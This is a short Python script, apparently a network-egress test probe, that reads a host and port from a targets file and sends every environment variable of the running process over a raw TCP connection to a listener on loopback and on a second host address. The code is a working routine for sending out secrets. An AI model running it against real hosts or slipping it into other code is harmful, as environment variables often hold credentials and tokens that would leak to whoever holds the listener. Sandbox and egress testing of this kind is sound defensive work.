# tcp-raw-socket (Python): socket.create_connection to the listener, on
# loopback and on the host's other address, and the environment into it.
import os, socket, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

data = "".join(f"{k}={v}\n" for k, v in os.environ.items()).encode()
for addr in (T["T_TCP_HOST"], T.get("T_HOST_ADDR", "")):
    if not addr:
        continue
    try:
        with socket.create_connection((addr, int(T["T_TCP_PORT"])), timeout=3) as s:
            s.sendall(data)
    except OSError as e:
        print(addr, e)
